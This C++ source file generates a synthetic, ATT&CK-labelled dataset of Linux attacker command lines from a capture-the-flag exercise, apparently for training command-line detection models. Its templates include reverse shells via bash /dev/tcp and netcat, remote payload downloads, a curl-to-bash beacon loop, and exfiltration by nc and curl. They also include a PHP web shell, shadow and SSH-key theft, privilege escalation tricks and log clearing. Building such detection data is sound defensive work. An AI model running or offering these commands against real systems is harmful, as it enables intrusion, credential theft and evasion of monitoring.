#include "data/generator/ctf.h"

#include <algorithm>
#include <map>
#include <set>
#include <unordered_map>

#include "data/generator/rng.h"
#include "data/generator/template_engine.h"
#include "data/split_file.h"

namespace attune::data {

namespace {

// One label of the preset: how many unique command strings it gets, how many observations they share
// (heavy-tailed among them), and the patterns they are drawn from.
struct CtfTechnique {
  const char* label;
  const char* name;
  std::size_t unique;
  std::uint64_t observations;
  std::vector<const char*> patterns;
};

const std::vector<CtfTechnique>& techniques() {
  static const std::vector<CtfTechnique> table = {
      {"Normal",
       "ordinary system and operator activity",
       30,
       4200,
       {R"x(/usr/sbin/cron -f)x", R"x(/usr/sbin/sshd -D)x", R"x(/lib/systemd/systemd-journald)x",
        R"x(/usr/bin/python3 /usr/bin/unattended-upgrade --download-only)x",
        R"x(/usr/sbin/logrotate /etc/logrotate.conf)x", R"x(apt-get {update|-y upgrade|install -y {apt}})x",
        R"x(/usr/lib/apt/methods/http)x", R"x(run-parts --report /etc/cron.{daily|hourly|weekly})x",
        R"x(/usr/sbin/apache2 -k start)x", R"x(nginx: worker process)x", R"x(/usr/bin/dbus-daemon --system)x",
        R"x(sleep {#1-60})x", R"x(/bin/sh /usr/lib/update-notifier/update-motd-updates-available)x",
        R"x(vim {lhome}/{fname}.{py|txt|conf})x", R"x(less /var/log/{syslog|auth.log|dpkg.log})x",
        R"x(git -C /srv/{proj} pull --ff-only)x", R"x(/usr/bin/containerd)x",
        R"x(mysqld --basedir=/usr --datadir=/var/lib/mysql)x"}},
      {"T1083",
       "File and Directory Discovery",
       40,
       60000,
       {R"x(ls{| -l| -la| -al| -lah| -ltr| -R| -a})x",
        R"x(ls{| -la| -l} {/|/home|/tmp|/opt|/var/www/html|/root|/etc|..|~})x",
        R"x(ls -la /home/{luser}{|/.ssh|/Desktop|/Documents})x",
        R"x(cd {/tmp|/home/{luser}|/var/www|..|/opt}; ls)x",
        R"x(find / -name "{flag*|*.txt|*.conf|*.bak|user.txt|root.txt}" 2>/dev/null)x",
        R"x(find {/home|/var/www|/opt} -type f{| -readable}{| -name "*.php"} 2>/dev/null)x",
        R"x(tree {-a|-L 2} {/home|/var/www|/opt})x", R"x(pwd)x", R"x(file {/tmp|/home/{luser}}/{fname})x",
        R"x(du -sh {/home/*|/var/www/*|/opt/*})x", R"x(locate {flag|password|id_rsa})x"}},
      {"T1059.004",
       "Unix Shell",
       12,
       1500,
       {R"x(bash -i)x", R"x(/bin/sh -i)x", R"x(bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1')x",
        R"x(sh -c "{id|uname -a|cat /etc/passwd}")x", R"x(/bin/bash -p)x",
        R"x(rm /tmp/f;mkfifo /tmp/f;cat /tmp/f{pipe}/bin/sh -i 2>&1{pipe}nc {ip} {port} >/tmp/f)x",
        R"x(script -qc /bin/bash /dev/null)x", R"x(exec /bin/bash)x"}},
      {"T1082",
       "System Information Discovery",
       10,
       900,
       {R"x(uname -{a|r|m|n})x", R"x(cat /etc/{os-release|issue|lsb-release|debian_version})x",
        R"x(cat /proc/{version|cpuinfo|meminfo})x", R"x(hostnamectl)x", R"x(lscpu)x", R"x(hostname{| -f})x",
        R"x(df -h)x", R"x(lsblk)x", R"x(env)x", R"x(echo $PATH)x"}},
      {"T1033",
       "System Owner/User Discovery",
       6,
       700,
       {R"x(whoami)x", R"x(id{| {luser}| root})x", R"x(w)x", R"x(who{| -a})x", R"x(last -n {#5-20})x",
        R"x(echo $USER)x"}},
      {"T1105",
       "Ingress Tool Transfer",
       14,
       650,
       {R"x(wget http://{ip}:{8000|8080|80}/{linpeas.sh|pspy64|chisel|nc|exploit.c|shell.elf|lse.sh})x",
        R"x(wget -O /tmp/{fname} http://{ip}/{fname})x",
        R"x(curl -{o|O} {/tmp/|/dev/shm/|}{fname} http://{ip}:{port}/{fname})x",
        R"x(curl -s http://{ip}:{port}/{fname}.sh -o {ltemp}/{fname}.sh)x",
        R"x(scp {luser}@{ip}:/tmp/{fname} {ltemp}/)x", R"x(nc -lvnp {port} > {ltemp}/{fname})x"}},
      {"T1057",
       "Process Discovery",
       6,
       400,
       {R"x(ps {aux|-ef|-aux|auxf|-eo pid,user,cmd})x", R"x(ps aux | grep {root|mysql|apache|cron|python})x",
        R"x(top -b -n 1)x", R"x(pgrep -a {ssh|python|java})x", R"x(ls /proc)x"}},
      {"T1016",
       "System Network Configuration Discovery",
       7,
       350,
       {R"x(ip {a|addr|route|r|neigh|link})x", R"x(ifconfig{| -a| eth0})x",
        R"x(cat /etc/{resolv.conf|hosts|network/interfaces})x", R"x(route -n)x", R"x(arp -a)x",
        R"x(iwconfig)x"}},
      {"T1049",
       "System Network Connections Discovery",
       5,
       300,
       {R"x(netstat -{tulpn|antp|ano|an|tlnp})x", R"x(ss -{tulpn|tunap|antp|lntp})x",
        R"x(lsof -i{| -P -n}{| :{port}})x"}},
      {"T1087.001",
       "Local Account Discovery",
       5,
       280,
       {R"x(cat /etc/passwd{| {pipe} grep -v nologin| {pipe} grep sh$})x", R"x(getent passwd{| {luser}})x",
        R"x(cut -d: -f1 /etc/passwd)x", R"x(awk -F: '$3 >= 1000' /etc/passwd)x", R"x(ls /home)x"}},
      {"T1548.003",
       "Sudo and Sudo Caching",
       6,
       260,
       {R"x(sudo -l)x", R"x(sudo su{| -})x", R"x(sudo -u {luser} /bin/bash)x", R"x(sudo -u#-1 /bin/bash)x",
        R"x(sudo {vim|find|less|awk|python3|tar} {-c ':!/bin/sh'|. -exec /bin/sh \; -quit|-c 'import os; os.system("/bin/sh")'})x",
        R"x(cat /etc/sudoers)x"}},
      {"T1046",
       "Network Service Discovery",
       8,
       240,
       {R"x(nmap {-sV|-sC -sV|-p-|-sS -T4|-A} {ip})x", R"x(nmap -p {22,80,443|1-1000|3306,5432} {ip}/24)x",
        R"x(nc -zv {ip} {1-1000|20-100|{port}})x",
        R"x(for p in $(seq 1 1024); do (echo > /dev/tcp/{ip}/$p) 2>/dev/null && echo $p open; done)x"}},
      {"T1021.004",
       "SSH",
       8,
       220,
       {R"x(ssh {luser}@{ip}{| -p {2222|22|{port}}})x",
        R"x(ssh -i {/tmp/id_rsa|~/.ssh/id_rsa|key.pem} {luser}@{ip})x",
        R"x(ssh -o StrictHostKeyChecking=no {luser}@{ip})x", R"x(sshpass -p '{pass}' ssh {luser}@{ip})x"}},
      {"T1552.001",
       "Credentials In Files",
       8,
       200,
       {R"x(grep -ri{| -n} "{password|passwd|pass=|secret|api_key}" {/var/www|/opt|/home|/etc} 2>/dev/null)x",
        R"x(cat /var/www/{html/wp-config.php|html/config.php|app/.env|html/.htpasswd})x",
        R"x(cat {lhome}/{.bash_history|.mysql_history|.git-credentials|.netrc})x",
        R"x(find / -name "*.{kdbx|bak|old|conf}" 2>/dev/null | xargs grep -l pass)x"}},
      {"T1003.008",
       "/etc/passwd and /etc/shadow",
       4,
       180,
       {R"x(cat /etc/shadow)x", R"x(unshadow /etc/passwd /etc/shadow > {ltemp}/hashes.txt)x",
        R"x(cp /etc/shadow {ltemp}/{fname})x", R"x(grep root /etc/shadow)x"}},
      {"T1059.006",
       "Python",
       6,
       170,
       {R"x(python{|3} -c 'import pty;pty.spawn("/bin/bash")')x",
        R"x(python3 {exploit|x|shell|cve}.py{| {ip}})x",
        R"x(python3 -c 'import os; os.setuid(0); os.system("/bin/sh")')x",
        R"x(python3 -m http.server {8000|80|{port}})x"}},
      {"T1572",
       "Protocol Tunneling",
       6,
       150,
       {R"x(ssh -{L|R} {#8000-9000}:{127.0.0.1|localhost}:{port} {luser}@{ip})x",
        R"x(./chisel {client {ip}:8000 R:socks|server -p 8000 --reverse})x",
        R"x(socat TCP-LISTEN:{port},fork TCP:{ip}:{port})x",
        R"x(ssh -N -f -L {#8000-9000}:{ip}:{port} {luser}@{ip})x"}},
      {"T1222.002",
       "Linux File and Directory Permissions Modification",
       6,
       140,
       {R"x(chmod +x {/tmp/|/dev/shm/|./}{fname})x", R"x(chmod {777|755|600} {/tmp|{lhome}}/{fname})x",
        R"x(chown {root|{luser}}:{root|{luser}} {/tmp/|}{fname})x", R"x(chattr +i {/tmp/|}{fname})x"}},
      {"T1053.003",
       "Cron",
       5,
       120,
       {R"x(crontab -{l|e})x", R"x(cat /etc/crontab)x", R"x(ls -la /etc/cron.{d|daily|hourly})x",
        R"x(echo "* * * * * root {/tmp/|/dev/shm/}{fname}" >> /etc/crontab)x",
        R"x((crontab -l; echo "*/5 * * * * /bin/bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'") | crontab -)x"}},
      {"T1548.001",
       "Setuid and Setgid",
       5,
       110,
       {R"x(find / -perm -{4000|u=s|2000} -type f 2>/dev/null)x",
        R"x(chmod {u+s|4755} {/bin/bash|/tmp/{fname}})x",
        R"x(cp /bin/bash /tmp/{fname} && chmod +s /tmp/{fname})x", R"x(/tmp/{fname} -p)x"}},
      {"T1560.001",
       "Archive via Utility",
       5,
       90,
       {R"x(tar {czf|cvzf|cf} {/tmp|/dev/shm}/{fname}.tar{|.gz} {/home|/var/www|/etc|/opt/{proj}})x",
        R"x(zip -r {/tmp/|}{fname}.zip {/home/{luser}|/var/www/html})x",
        R"x(gzip -c {fname} > {fname}.gz)x"}},
      {"T1070.003",
       "Clear Command History",
       5,
       80,
       {R"x(history -c)x", R"x(unset HISTFILE)x", R"x(rm {-f|-rf} {~|/root|{lhome}}/.bash_history)x",
        R"x(export HISTSIZE=0)x", R"x(ln -sf /dev/null ~/.bash_history)x"}},
      {"T1552.004",
       "Private Keys",
       4,
       75,
       {R"x(cat {/root|/home/{luser}}/.ssh/id_{rsa|ed25519})x",
        R"x(find / -name "id_{rsa|dsa|ecdsa|ed25519}*" 2>/dev/null)x", R"x(ls -la /home/*/.ssh/)x"}},
      {"T1098.004",
       "SSH Authorized Keys",
       4,
       60,
       {R"x(echo "ssh-{rsa|ed25519} AAAA{alnum11}{alnum11} {luser}@{lhost}" >> {/root|/home/{luser}}/.ssh/authorized_keys)x",
        R"x(mkdir -p ~/.ssh && chmod 700 ~/.ssh)x",
        R"x(cat {ltemp}/{fname}.pub >> ~/.ssh/authorized_keys)x"}},
      {"T1110.002",
       "Password Cracking",
       4,
       55,
       {R"x(john --wordlist={/usr/share/wordlists/rockyou.txt|words.txt} {hashes.txt|hash|shadow.txt})x",
        R"x(hashcat -m {1800|500|0|3200} {hash.txt|hashes} {rockyou.txt|wordlist.txt})x",
        R"x(john --show hashes.txt)x"}},
      {"T1018",
       "Remote System Discovery",
       4,
       50,
       {R"x(ping -c {1|3|4} {ip})x", R"x(for i in $(seq 1 254); do ping -c 1 -W 1 10.10.{#0-20}.$i; done)x",
        R"x(arp -n)x", R"x(nmap -sn {ip}/24)x"}},
      {"T1136.001",
       "Local Account",
       3,
       45,
       {R"x(useradd -m -s /bin/bash {luser}{| -G sudo})x", R"x(adduser {luser})x",
        R"x(echo '{luser}:{pass}' | chpasswd)x"}},
      {"T1543.002",
       "Systemd Service",
       3,
       40,
       {R"x(systemctl {enable|start|daemon-reload} {fname}.service)x",
        R"x(cp {ltemp}/{fname}.service /etc/systemd/system/)x",
        R"x(systemctl list-unit-files --type=service)x"}},
      {"T1070.004",
       "File Deletion",
       4,
       38,
       {R"x(rm -{f|rf} {/tmp|/dev/shm}/{fname})x", R"x(shred -u {/tmp/|}{fname})x", R"x(rm -rf /tmp/*)x"}},
      {"T1140",
       "Deobfuscate/Decode Files or Information",
       4,
       36,
       {R"x(echo {b64} | base64 -d{| {pipe} bash| > /tmp/{fname}})x", R"x(base64 -d {fname}.b64 > {fname})x",
        R"x(xxd -r -p {fname}.hex > {fname})x"}},
      {"T1110.001",
       "Password Guessing",
       3,
       32,
       {R"x(hydra -l {luser|root|admin} -P {rockyou.txt|pass.txt} {ssh|ftp}://{ip})x",
        R"x(hydra -L users.txt -P pass.txt {ip} {ssh|http-post-form})x"}},
      {"T1048",
       "Exfiltration Over Alternative Protocol",
       3,
       30,
       {R"x(nc {ip} {port} < {/tmp/|}{fname})x",
        R"x(curl -{T|F file=@} {/tmp/|}{fname} {ftp|http}://{ip}:{port}/)x",
        R"x(scp {/tmp/|}{fname} {luser}@{ip}:/tmp/)x"}},
      {"T1595.003",
       "Wordlist Scanning",
       3,
       28,
       {R"x(gobuster dir -u http://{ip}{|:8080} -w {/usr/share/wordlists/dirb/common.txt|words.txt})x",
        R"x(ffuf -u http://{ip}/FUZZ -w {common.txt|wordlist.txt})x", R"x(dirb http://{ip})x"}},
      {"T1190",
       "Exploit Public-Facing Application",
       3,
       26,
       {R"x(curl "http://{ip}/{index.php|page.php}?{page|file}=../../../../etc/passwd")x",
        R"x(sqlmap -u "http://{ip}/{item|product}.php?id=1" {--dbs|--dump|--batch})x",
        R"x(curl -X POST http://{ip}/{upload|login}.php -d '{user|username}=admin{sq} OR 1=1-- -')x"}},
      {"T1505.003",
       "Web Shell",
       3,
       24,
       {R"x(echo '<?php system($_GET["{cmd|c}"]); ?>' > /var/www/html/{fname}.php)x",
        R"x(curl "http://{ip}/{fname}.php?cmd={id|whoami|ls}")x",
        R"x(cp {ltemp}/shell.php /var/www/html/)x"}},
      {"T1007",
       "System Service Discovery",
       3,
       22,
       {R"x(systemctl list-units --type=service{| --state=running})x", R"x(service --status-all)x",
        R"x(ls /etc/init.d)x"}},
      {"T1518",
       "Software Discovery",
       3,
       20,
       {R"x(dpkg -l{| {pipe} grep {ssh|apache|mysql|sudo}})x", R"x(which {gcc|python3|perl|nc|wget|curl})x",
        R"x(apt list --installed)x"}},
      {"T1069.001",
       "Local Groups",
       3,
       18,
       {R"x(groups{| {luser}})x", R"x(getent group {sudo|docker|adm|lxd})x", R"x(cat /etc/group)x"}},
      {"T1068",
       "Exploitation for Privilege Escalation",
       3,
       16,
       {R"x(gcc {exploit|cve|dirty|pwn}.c -o {exploit|cow|pwn}{| -pthread})x", R"x(./{exploit|cow|pwn})x",
        R"x(lxc init {image} {fname} -c security.privileged=true)x"}},
      {"T1027",
       "Obfuscated Files or Information",
       3,
       14,
       {R"x(base64 -w0 {/tmp/|}{fname})x", R"x(echo '{word} {word}' | base64)x",
        R"x(xxd -p {fname} > {fname}.hex)x"}},
      {"T1040",
       "Network Sniffing",
       2,
       12,
       {R"x(tcpdump -i {eth0|any|tun0} {-w /tmp/cap.pcap|-nn port {port}|-A})x"}},
      {"T1562.001",
       "Disable or Modify Tools",
       2,
       11,
       {R"x(setenforce 0)x", R"x({ufw disable|systemctl stop auditd|service auditd stop})x"}},
      // The tail: techniques seen only a few times in the exercise (what data.group_rare groups).
      {"T1574.006",
       "Dynamic Linker Hijacking",
       2,
       8,
       {R"x(echo {/tmp|/dev/shm}/{fname}.so > /etc/ld.so.preload)x",
        R"x(sudo LD_PRELOAD={/tmp|/dev/shm}/{fname}.so {find|apache2|vim})x"}},
      {"T1547.006", "Kernel Modules and Extensions", 1, 6, {R"x(insmod {/tmp/|}{fname}.ko)x"}},
      {"T1489", "Service Stop", 2, 6, {R"x(systemctl stop {apache2|mysql|nginx|ssh})x"}},
      {"T1124", "System Time Discovery", 1, 5, {R"x({date|timedatectl})x"}},
      {"T1201", "Password Policy Discovery", 1, 4, {R"x({cat /etc/login.defs|chage -l {luser}})x"}},
      {"T1529", "System Shutdown/Reboot", 1, 3, {R"x({shutdown -h now|reboot|init 6})x"}},
      {"T1055.008",
       "Ptrace System Calls",
       1,
       3,
       {R"x(gdb -p {#300-9000} -batch -ex 'call system("/bin/sh")')x"}},
      {"T1090.001", "Internal Proxy", 1, 2, {R"x(proxychains {nmap -sT {ip}|ssh {luser}@{ip}})x"}},
      {"T1071.001",
       "Web Protocols",
       1,
       2,
       {R"x(while true; do curl -s http://{ip}/{task|cmd} | bash; sleep 60; done)x"}},
      {"T1113", "Screen Capture", 1, 1, {R"x(import -window root /tmp/{fname}.png)x"}},
  };
  return table;
}

// Observations spread over a technique's unique strings by rank (the i-th gets a share ∝ 1/(i+1)), each
// at least 1; integer arithmetic only, so every machine gets the same counts.
std::vector<std::uint64_t> heavy_tailed_counts(std::size_t n, std::uint64_t observations) {
  std::vector<std::uint64_t> weights(n);
  std::uint64_t total = 0;
  for (std::size_t i = 0; i < n; ++i) total += weights[i] = 720720 / (i + 1);
  std::vector<std::uint64_t> counts(n);
  for (std::size_t i = 0; i < n; ++i)
    counts[i] = std::max<std::uint64_t>(1, observations * weights[i] / total);
  return counts;
}

}  // namespace

const std::vector<std::string>& ctf_labels() {
  static const std::vector<std::string> labels = [] {
    std::vector<std::string> out;
    for (const auto& t : techniques()) out.push_back(t.label);
    return out;
  }();
  return labels;
}

std::vector<GeneratedRow> ctf_rows(std::uint64_t seed) {
  std::vector<GeneratedRow> rows;
  std::unordered_map<std::string, std::string> owner;  // text -> label
  for (const auto& t : techniques()) {
    std::vector<gen::Pattern> patterns;
    for (std::size_t i = 0; i < t.patterns.size(); ++i)
      patterns.push_back(
          gen::compile_pattern(t.patterns[i], std::string("ctf/") + t.label + "/" + std::to_string(i)));
    gen::Rng rng(gen::stream_seed(seed, std::string("ctf/") + t.label));
    std::vector<GeneratedRow> mine;
    // Patterns in turn, so every pattern of a technique is used before any repeats; a text another label
    // already has is skipped.
    for (std::size_t tries = 0; mine.size() < t.unique && tries < t.unique * 200; ++tries) {
      const std::size_t p = tries % patterns.size();
      std::string text = patterns[p].expand(rng);
      const auto [it, fresh] = owner.emplace(text, t.label);
      if (!fresh) continue;
      GeneratedRow row;
      row.text = std::move(text);
      row.label = t.label;
      row.template_id = std::string("ctf.") + t.label + "." + std::to_string(p);
      mine.push_back(std::move(row));
    }
    const auto counts = heavy_tailed_counts(mine.size(), t.observations);
    for (std::size_t i = 0; i < mine.size(); ++i) {
      mine[i].count = counts[i];
      rows.push_back(std::move(mine[i]));
    }
  }
  return rows;
}

GeneratedData generate_ctf(std::uint64_t seed) {
  GeneratedData data;
  data.preset = kCtfPreset;
  data.labels = ctf_labels();
  data.all = ctf_rows(seed);
  std::vector<Example> examples;
  std::map<std::string, GeneratedRow> by_text;
  for (const auto& row : data.all) {
    Example e;
    e.text = row.text;
    e.label = row.label;
    e.weight = static_cast<double>(row.count);
    examples.push_back(std::move(e));
    by_text.emplace(row.text, row);
  }
  const auto splits = stratified_example_split(std::move(examples), {0.6, 0.2, 0.2}, seed);
  for (const auto& [from, to] :
       {std::pair{&splits.train, &data.train}, std::pair{&splits.validation, &data.validation},
        std::pair{&splits.test, &data.test}})
    for (const auto& e : *from) to->push_back(by_text.at(e.text));

  nlohmann::json& m = data.manifest;
  m["preset"] = kCtfPreset;
  m["description"] =
      "Linux attacker command lines of a capture-the-flag exercise as auditd records them, one row per "
      "unique "
      "string with its execution count; heavy-tailed, T1083 holding most observations";
  m["seed"] = seed;
  m["generator_version"] = kGeneratorVersion;
  m["labels"] = data.labels;
  m["columns"] = {"text", "label", "count"};
  m["split_rule"] =
      "stratified 60/20/20 per label over unique strings (round half up; a label with one string trains); "
      "all.csv holds every row for train's data.split";
  std::uint64_t total = 0;
  nlohmann::json per_label = nlohmann::json::object();
  for (const auto& t : techniques()) {
    std::uint64_t observations = 0, unique = 0;
    for (const auto& row : data.all)
      if (row.label == t.label) observations += row.count, ++unique;
    total += observations;
    per_label[t.label] = {{"name", t.name}, {"unique", unique}, {"observations", observations}};
  }
  m["per_label"] = per_label;
  m["rows"] = data.all.size();
  m["observations"] = total;
  auto count_split = [](const std::vector<GeneratedRow>& rows) {
    std::uint64_t observations = 0;
    for (const auto& r : rows) observations += r.count;
    return nlohmann::json{{"rows", rows.size()}, {"observations", observations}};
  };
  m["counts"] = {{"train", count_split(data.train)},
                 {"validation", count_split(data.validation)},
                 {"test", count_split(data.test)}};
  return data;
}

}  // namespace attune::data
